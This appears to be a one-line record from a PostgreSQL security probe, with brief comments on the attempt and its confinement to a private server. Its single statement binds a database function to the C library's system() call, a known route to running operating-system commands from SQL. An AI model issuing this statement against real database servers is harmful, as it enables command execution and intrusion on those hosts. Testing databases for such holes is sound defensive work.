-- tries: bring code in a language that may do anything
-- finding: none by reading
-- sides: confined on a private server, without rights on one in use
CREATE FUNCTION public.c(text) RETURNS integer LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6', 'system';
